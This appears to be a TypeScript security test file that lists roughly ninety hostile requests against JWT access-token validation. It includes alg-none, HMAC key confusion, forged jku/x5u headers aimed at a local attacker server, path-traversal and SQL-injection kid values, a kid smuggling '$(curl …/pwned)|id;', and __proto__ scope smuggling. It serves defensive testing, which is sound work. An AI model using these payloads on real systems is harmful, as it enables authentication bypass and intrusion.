import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  generateTestKey,
  tamper,
  type GeneratedTestKey,
  type TestIssuer,
} from '@scopeguard/testing'
import type { RequestSpec } from './cases.js'

/**
 * What a hostile request must get. Every answer is a 4xx: `invalid_token`, `invalid_request`,
 * `insufficient_scope`, `missing_token` (a 401 whose challenge has no `error`), or `transport`
 * for requests Node's HTTP parser refuses before any adapter runs (no challenge then).
 */
export type AttackOutcome =
  | { kind: 'invalid_token' }
  | { kind: 'invalid_request' }
  | { kind: 'missing_token' }
  | { kind: 'insufficient_scope'; scope: string }
  | { kind: 'transport'; status: number }

/** A loopback server an attacker controls, counting every request it receives. */
export interface AttackerServer {
  readonly origin: string
  hits(): number
  close(): Promise<void>
}

/** What an attack case can use to build its request. */
export interface AttackContext {
  issuer: TestIssuer
  audience: string
  attacker: AttackerServer
  /** A key pair the issuer never published. */
  attackerKey: GeneratedTestKey
}

/** One hostile request. */
export interface AttackCase {
  name: string
  request(context: AttackContext): Promise<RequestSpec>
  expect: AttackOutcome
}

/** Starts the attacker's server: it serves the attacker's JWKS (and anything else) and counts. */
export async function startAttackerServer(jwks: unknown): Promise<AttackerServer> {
  let count = 0
  const server: Server = createServer((_req, res) => {
    count += 1
    res.writeHead(200, { 'Content-Type': 'application/json' })
    res.end(JSON.stringify(jwks))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    hits: () => count,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

export { generateTestKey }

const now = (): number => Math.floor(Date.now() / 1000)
const b64u = (text: string): string => Buffer.from(text, 'utf8').toString('base64url')
const bearer = (token: string): [string, string][] => [['Authorization', `Bearer ${token}`]]
const files = (token: string): RequestSpec => ({ path: '/files', headers: bearer(token) })
const withAuthorization = (value: string): RequestSpec => ({
  path: '/files',
  headers: [['Authorization', value]],
})
const read = { scope: 'files:read' }

const invalidToken: AttackOutcome = { kind: 'invalid_token' }
const invalidRequest: AttackOutcome = { kind: 'invalid_request' }
const missingToken: AttackOutcome = { kind: 'missing_token' }
const needsRead: AttackOutcome = { kind: 'insufficient_scope', scope: 'files:read' }

/** A JWS made of the given raw header and payload texts, with a junk signature. */
const rawJws = (header: string, payload: string, signature = 'c2ln'): string =>
  `${b64u(header)}.${b64u(payload)}.${signature}`

const signedWith = (context: AttackContext, header: Record<string, unknown>, kid?: string | null) =>
  context.issuer.sign(read, {
    privateKey: context.attackerKey.privateKey,
    kid: kid === undefined ? (context.attackerKey.publicJwk['kid'] as string) : kid,
    header,
  })

/**
 * The attack corpus: requests an attacker would send, none of which may be accepted or cause a
 * 5xx. Runs against every example in JWT mode (see `attacks.test.ts`).
 */
export const ATTACKS: readonly AttackCase[] = [
  // --- algorithm and signature ---
  {
    name: 'alg none with an empty signature',
    request: async ({ issuer }) => files(await issuer.sign(read, { alg: 'none' })),
    expect: invalidToken,
  },
  {
    name: 'alg "None" (case variant)',
    request: async ({ issuer }) =>
      files(rawJws(JSON.stringify({ alg: 'None', typ: 'at+jwt' }), payloadOf(issuer), '')),
    expect: invalidToken,
  },
  {
    name: 'alg "NONE" with the issuer kid',
    request: async ({ issuer }) =>
      files(
        rawJws(
          JSON.stringify({ alg: 'NONE', kid: issuer.publicJwk()['kid'] }),
          payloadOf(issuer),
          '',
        ),
      ),
    expect: invalidToken,
  },
  {
    name: 'HS256 signed with the issuer public key PEM (key confusion)',
    request: async ({ issuer }) =>
      files(await issuer.sign(read, { alg: 'HS256', secret: issuer.publicKeyPem('RS256') })),
    expect: invalidToken,
  },
  {
    name: 'HS256 signed with the issuer public JWK JSON (key confusion)',
    request: async ({ issuer }) =>
      files(await issuer.sign(read, { alg: 'HS256', secret: JSON.stringify(issuer.publicJwk()) })),
    expect: invalidToken,
  },
  {
    name: 'HS512 signed with the issuer ES256 public key PEM',
    request: async ({ issuer }) =>
      files(
        await issuer.sign(read, {
          alg: 'HS512',
          secret: issuer.publicKeyPem('ES256'),
          kid: issuer.publicJwk('ES256')['kid'] as string,
        }),
      ),
    expect: invalidToken,
  },
  {
    name: 'a bad signature (one bit flipped)',
    request: async ({ issuer }) => files(tamper(await issuer.sign(read))),
    expect: invalidToken,
  },
  {
    name: 'the signature stripped (header.payload.)',
    request: async ({ issuer }) => {
      const [h, p] = (await issuer.sign(read)).split('.')
      return files(`${h}.${p}.`)
    },
    expect: invalidToken,
  },
  {
    name: 'the signature of another token spliced on',
    request: async ({ issuer }) => {
      const [h, p] = (await issuer.sign({ scope: 'files:read files:write admin' })).split('.')
      const s = (await issuer.sign(read)).split('.')[2]
      return files(`${h}.${p}.${s}`)
    },
    expect: invalidToken,
  },
  {
    name: 'an escalated payload under the original signature',
    request: async ({ issuer }) => {
      const [h, , s] = (await issuer.sign({ scope: 'nothing' })).split('.')
      return files(`${h}.${payloadOf(issuer, { scope: 'files:read admin' })}.${s}`)
    },
    expect: invalidToken,
  },
  {
    name: 'header alg RS256 over an ES256 signature (algorithm/key mismatch)',
    request: async ({ issuer }) =>
      files(
        await issuer.sign(read, {
          alg: 'ES256',
          header: { alg: 'RS256', kid: issuer.publicJwk('ES256')['kid'] },
        }),
      ),
    expect: invalidToken,
  },
  {
    name: 'alg ES256 naming the RSA key kid',
    request: async ({ issuer }) =>
      files(
        await issuer.sign(read, { alg: 'ES256', kid: issuer.publicJwk('RS256')['kid'] as string }),
      ),
    expect: invalidToken,
  },
  {
    name: 'alg missing from the header',
    request: async ({ issuer }) => files(await issuer.sign(read, { header: { alg: undefined } })),
    expect: invalidToken,
  },
  {
    name: 'alg as a number',
    request: async ({ issuer }) => files(await issuer.sign(read, { header: { alg: 256 } })),
    expect: invalidToken,
  },
  // --- kid and key-locating headers ---
  {
    name: 'an unknown kid (attacker key)',
    request: async (context) => files(await signedWith(context, {})),
    expect: invalidToken,
  },
  {
    name: 'the issuer kid over an attacker signature',
    request: async (context) =>
      files(await signedWith(context, {}, context.issuer.publicJwk()['kid'] as string)),
    expect: invalidToken,
  },
  {
    name: 'kid with path traversal',
    request: async (context) => files(await signedWith(context, {}, '../../../../../etc/passwd')),
    expect: invalidToken,
  },
  {
    name: 'kid with a NUL-terminated path',
    request: async (context) => files(await signedWith(context, {}, '/dev/null\u0000.pem')),
    expect: invalidToken,
  },
  {
    name: 'kid with SQL injection text',
    request: async (context) => files(await signedWith(context, {}, "x' UNION SELECT 'secret' --")),
    expect: invalidToken,
  },
  {
    name: 'kid with shell injection text',
    request: async (context) =>
      files(await signedWith(context, {}, `$(curl ${context.attacker.origin}/pwned)|id;`)),
    expect: invalidToken,
  },
  {
    name: 'kid as an object (NoSQL-style operator)',
    request: async (context) => files(await signedWith(context, { kid: { $ne: null } }, null)),
    expect: invalidToken,
  },
  {
    name: 'kid of 3000 characters',
    request: async (context) => files(await signedWith(context, {}, 'k'.repeat(3000))),
    expect: invalidToken,
  },
  {
    name: 'an embedded jwk header with the attacker key (no kid)',
    request: async (context) =>
      files(await signedWith(context, { jwk: context.attackerKey.publicJwk }, null)),
    expect: invalidToken,
  },
  {
    name: 'an embedded jwk header with the attacker key and the issuer kid',
    request: async (context) =>
      files(
        await signedWith(
          context,
          { jwk: context.attackerKey.publicJwk },
          context.issuer.publicJwk()['kid'] as string,
        ),
      ),
    expect: invalidToken,
  },
  {
    name: 'jku pointing at the attacker server',
    request: async (context) =>
      files(await signedWith(context, { jku: `${context.attacker.origin}/jwks.json` })),
    expect: invalidToken,
  },
  {
    name: 'jku pointing at the attacker server, without kid',
    request: async (context) =>
      files(await signedWith(context, { jku: `${context.attacker.origin}/jwks.json` }, null)),
    expect: invalidToken,
  },
  {
    name: 'jku pointing at the attacker server, with the issuer kid',
    request: async (context) =>
      files(
        await signedWith(
          context,
          { jku: `${context.attacker.origin}/jwks.json` },
          context.issuer.publicJwk()['kid'] as string,
        ),
      ),
    expect: invalidToken,
  },
  {
    name: 'x5u pointing at the attacker server',
    request: async (context) =>
      files(await signedWith(context, { x5u: `${context.attacker.origin}/cert.pem` })),
    expect: invalidToken,
  },
  {
    name: 'an x5c chain in the header',
    request: async (context) =>
      files(await signedWith(context, { x5c: [Buffer.from('not a cert').toString('base64')] })),
    expect: invalidToken,
  },
  // --- critical and unusual header parameters ---
  {
    name: 'an unknown crit parameter',
    request: async ({ issuer }) =>
      files(await issuer.sign(read, { header: { crit: ['urn:x:critical'], 'urn:x:critical': 1 } })),
    expect: invalidToken,
  },
  {
    name: 'crit naming a parameter that is absent',
    request: async ({ issuer }) => files(await issuer.sign(read, { header: { crit: ['exp'] } })),
    expect: invalidToken,
  },
  {
    name: 'an empty crit array',
    request: async ({ issuer }) => files(await issuer.sign(read, { header: { crit: [] } })),
    expect: invalidToken,
  },
  {
    name: 'b64: false (unencoded payload) in crit',
    request: async ({ issuer }) =>
      files(await issuer.sign(read, { header: { b64: false, crit: ['b64'] } })),
    expect: invalidToken,
  },
  {
    name: 'HS256 with an empty secret',
    request: async ({ issuer }) => files(await issuer.sign(read, { alg: 'HS256', secret: '' })),
    expect: invalidToken,
  },
  {
    name: 'typ dpop+jwt presented as a bearer token',
    request: async ({ issuer }) => files(await issuer.sign(read, { typ: 'dpop+jwt' })),
    expect: invalidToken,
  },
  // --- time claims ---
  {
    name: 'expired an hour ago',
    request: async ({ issuer }) => files(await issuer.sign(read, { expiresIn: -3600 })),
    expect: invalidToken,
  },
  {
    name: 'expired just beyond the clock tolerance',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, exp: now() - 30 })),
    expect: invalidToken,
  },
  {
    name: 'not valid for ten minutes (nbf)',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, nbf: now() + 600 })),
    expect: invalidToken,
  },
  {
    name: 'iat a year in the future',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, iat: now() + 31_536_000, exp: now() + 31_536_600 })),
    expect: invalidToken,
  },
  {
    name: 'exp as a string',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, exp: String(now() + 300) })),
    expect: invalidToken,
  },
  {
    name: 'exp as a boolean',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, exp: true })),
    expect: invalidToken,
  },
  {
    name: 'exp null',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, exp: null })),
    expect: invalidToken,
  },
  {
    name: 'exp missing',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, exp: undefined })),
    expect: invalidToken,
  },
  {
    name: 'nbf as a string',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, nbf: '0' })),
    expect: invalidToken,
  },
  // --- issuer and audience ---
  {
    name: 'a wrong iss',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, iss: 'https://evil.example' })),
    expect: invalidToken,
  },
  {
    name: 'iss missing',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, iss: undefined })),
    expect: invalidToken,
  },
  {
    name: 'iss differently cased',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, iss: issuer.issuer.toUpperCase() })),
    expect: invalidToken,
  },
  {
    name: 'iss with a zero-width space appended',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, iss: `${issuer.issuer}\u200b` })),
    expect: invalidToken,
  },
  {
    name: 'iss as an array',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, iss: [issuer.issuer] })),
    expect: invalidToken,
  },
  {
    name: 'a wrong aud',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, aud: 'https://other.example' })),
    expect: invalidToken,
  },
  {
    name: 'aud missing',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, aud: undefined })),
    expect: invalidToken,
  },
  {
    name: 'aud differently cased',
    request: async ({ issuer, audience }) =>
      files(await issuer.sign({ ...read, aud: audience.toUpperCase() })),
    expect: invalidToken,
  },
  {
    name: 'aud as an empty array',
    request: async ({ issuer }) => files(await issuer.sign({ ...read, aud: [] })),
    expect: invalidToken,
  },
  {
    name: 'aud as an object',
    request: async ({ issuer, audience }) =>
      files(await issuer.sign({ ...read, aud: { 0: audience } })),
    expect: invalidToken,
  },
  // --- token shapes ---
  {
    name: 'an ID token (typ JWT, nonce, aud = the client)',
    request: async ({ issuer }) =>
      files(
        await issuer.sign(
          { ...read, nonce: 'n-0S6_WzA2Mj', aud: 'client-abc', azp: 'client-abc' },
          { typ: 'JWT' },
        ),
      ),
    expect: invalidToken,
  },
  {
    name: 'an ID-token-shaped JWT for this API (untyped, at_hash)',
    request: async ({ issuer }) =>
      files(await issuer.sign({ ...read, at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q' }, { typ: null })),
    expect: invalidToken,
  },
  {
    name: 'a five-segment (JWE-looking) token',
    request: async () =>
      files(`${b64u(JSON.stringify({ alg: 'RSA-OAEP', enc: 'A256GCM' }))}.a.b.c.d`),
    expect: invalidToken,
  },
  {
    name: 'a two-segment token',
    request: async ({ issuer }) =>
      files((await issuer.sign(read)).split('.').slice(0, 2).join('.')),
    expect: invalidToken,
  },
  {
    name: 'a four-segment token',
    request: async ({ issuer }) => files(`${await issuer.sign(read)}.extra`),
    expect: invalidToken,
  },
  {
    name: 'three empty segments',
    request: async () => files('..'),
    expect: invalidToken,
  },
  {
    name: 'a header that is not JSON',
    request: async ({ issuer }) => files(rawJws('not json', payloadOf(issuer))),
    expect: invalidToken,
  },
  {
    name: 'a header that is a JSON array',
    request: async ({ issuer }) => files(rawJws('[]', payloadOf(issuer))),
    expect: invalidToken,
  },
  {
    name: 'a deeply nested header (2000 levels)',
    request: async ({ issuer }) =>
      files(rawJws(`${'['.repeat(2000)}${']'.repeat(2000)}`, payloadOf(issuer))),
    expect: invalidToken,
  },
  {
    name: 'a NUL byte inside the decoded header',
    request: async ({ issuer }) => files(rawJws('{"alg":"RS256\\u0000"}', payloadOf(issuer))),
    expect: invalidToken,
  },
  {
    name: 'a signed payload that is not JSON',
    request: async ({ issuer }) => files(await issuer.sign({}, { rawPayload: 'not json' })),
    expect: invalidToken,
  },
  {
    name: 'a signed payload that is a JSON array',
    request: async ({ issuer }) => files(await issuer.sign({}, { rawPayload: '[1,2,3]' })),
    expect: invalidToken,
  },
  {
    name: 'non-base64url characters in the token',
    request: async () => withAuthorization('Bearer eyJhbGciOiJSUzI1NiJ9!.e30$.c2ln*'),
    expect: invalidRequest,
  },
  {
    name: 'padding in the middle of the token',
    request: async () => withAuthorization('Bearer eyJhbGciOiJSUzI1NiJ9==.e30=.c2ln'),
    expect: invalidRequest,
  },
  {
    name: 'standard base64 characters (+ and /) in the segments',
    request: async () => files('eyJhbGciOiJSUzI1NiJ9+/.e30+/.c2ln+/'),
    expect: invalidToken,
  },
  {
    name: 'a raw NUL byte in the Authorization header',
    request: async ({ issuer }) => withAuthorization(`Bearer ${await issuer.sign(read)}\u0000`),
    expect: { kind: 'transport', status: 400 },
  },
  {
    name: 'unicode in the token',
    request: async () => withAuthorization('Bearer ünïcødé.tøkén.☃'),
    expect: invalidRequest,
  },
  {
    name: 'a non-breaking space after Bearer',
    request: async ({ issuer }) => withAuthorization(`Bearer\u00a0${await issuer.sign(read)}`),
    expect: missingToken,
  },
  // --- sizes ---
  {
    name: 'a token just over the length limit',
    request: async () => files(`eyJ${'A'.repeat(8200)}.e30.c2ln`),
    expect: invalidToken,
  },
  {
    name: 'an Authorization header beyond the HTTP header limit (20 kB)',
    request: async () => files('a'.repeat(20_000)),
    expect: { kind: 'transport', status: 431 },
  },
  {
    name: 'a signed token with 1500 scopes, none of them files:read',
    request: async ({ issuer }) =>
      files(
        await issuer.sign({
          scope: Array.from({ length: 1500 }, (_, i) => i.toString(36)).join(' '),
        }),
      ),
    expect: needsRead,
  },
  {
    name: 'a signed token with 1300 scopes (over the token length limit)',
    request: async ({ issuer }) =>
      files(
        await issuer.sign({
          scope: ['files:read', ...Array.from({ length: 1300 }, (_, i) => `s${i}`)].join(' '),
        }),
      ),
    expect: invalidToken,
  },
  // --- scopes and claims shaped to confuse ---
  {
    name: 'scope smuggled through __proto__',
    request: async ({ issuer }) =>
      files(
        await issuer.sign(
          {},
          { rawPayload: payloadJson(issuer, { __proto__: { scope: 'files:read' } }, true) },
        ),
      ),
    expect: needsRead,
  },
  {
    name: 'scope differently cased',
    request: async ({ issuer }) => files(await issuer.sign({ scope: 'FILES:READ' })),
    expect: needsRead,
  },
  {
    name: 'a wildcard scope',
    request: async ({ issuer }) => files(await issuer.sign({ scope: 'files:* *' })),
    expect: needsRead,
  },
  {
    name: 'scope with a NUL byte',
    request: async ({ issuer }) => files(await issuer.sign({ scope: 'files:read\u0000' })),
    expect: needsRead,
  },
  {
    name: 'scope as an object',
    request: async ({ issuer }) => files(await issuer.sign({ scope: { 'files:read': true } })),
    expect: invalidToken,
  },
  // --- headers and schemes ---
  {
    name: 'two Authorization headers (valid, then garbage)',
    request: async ({ issuer }) => ({
      path: '/files',
      headers: [...bearer(await issuer.sign(read)), ['Authorization', 'Bearer garbage']],
    }),
    expect: invalidRequest,
  },
  {
    name: 'two Authorization headers differing in name case',
    request: async ({ issuer }) => {
      const token = await issuer.sign(read)
      return {
        path: '/files',
        headers: [
          ['authorization', `Bearer ${token}`],
          ['AUTHORIZATION', `Bearer ${token}`],
        ],
      }
    },
    expect: invalidRequest,
  },
  {
    name: 'a token in the header and in the query',
    request: async ({ issuer }) => {
      const token = await issuer.sign(read)
      return { path: `/files?access_token=${token}`, headers: bearer(token) }
    },
    expect: invalidRequest,
  },
  {
    name: 'Basic credentials',
    request: async () =>
      withAuthorization(`Basic ${Buffer.from('admin:admin').toString('base64')}`),
    expect: missingToken,
  },
  {
    name: 'a Digest scheme',
    request: async () => withAuthorization('Digest username="admin", response="x"'),
    expect: missingToken,
  },
  {
    name: 'a token in a cookie only',
    request: async ({ issuer }) => ({
      path: '/files',
      headers: [['Cookie', `access_token=${await issuer.sign(read)}`]],
    }),
    expect: missingToken,
  },
  {
    name: 'empty Bearer',
    request: async () => withAuthorization('Bearer '),
    expect: invalidRequest,
  },
  {
    name: 'Bearer followed by only spaces',
    request: async () => withAuthorization('Bearer      '),
    expect: invalidRequest,
  },
  {
    name: 'the scheme glued to the token',
    request: async ({ issuer }) => withAuthorization(`Bearer${await issuer.sign(read)}`),
    expect: missingToken,
  },
  {
    name: 'a token followed by a second word',
    request: async ({ issuer }) => withAuthorization(`Bearer ${await issuer.sign(read)} extra`),
    expect: invalidRequest,
  },
  {
    name: 'a token followed by a comma and another challenge',
    request: async ({ issuer }) =>
      withAuthorization(`Bearer ${await issuer.sign(read)}, Basic YTpi`),
    expect: invalidRequest,
  },
  {
    name: 'a tab between scheme and token',
    request: async ({ issuer }) => withAuthorization(`Bearer\t${await issuer.sign(read)}`),
    expect: invalidRequest,
  },
  {
    name: 'Bearer quoted like an auth-param',
    request: async ({ issuer }) => withAuthorization(`Bearer token="${await issuer.sign(read)}"`),
    expect: invalidRequest,
  },
]

/** The base64url payload of a token with default claims for this issuer (unsigned). */
function payloadOf(issuer: TestIssuer, extra: Record<string, unknown> = {}): string {
  return b64u(payloadJson(issuer, extra))
}

/** JSON text of default claims; with `raw`, `extra` keys are written as given (even __proto__). */
function payloadJson(issuer: TestIssuer, extra: Record<string, unknown>, raw = false): string {
  const claims = {
    iss: issuer.issuer,
    aud: issuer.audience,
    sub: 'user-123',
    client_id: 'client-abc',
    iat: now(),
    exp: now() + 300,
  }
  const base = JSON.stringify(claims)
  if (!raw) return JSON.stringify({ ...claims, ...extra })
  const proto = Object.getPrototypeOf(extra) as Record<string, unknown>
  const smuggled = proto === Object.prototype ? '' : `,"__proto__":${JSON.stringify(proto)}`
  return `${base.slice(0, -1)}${smuggled}}`
}
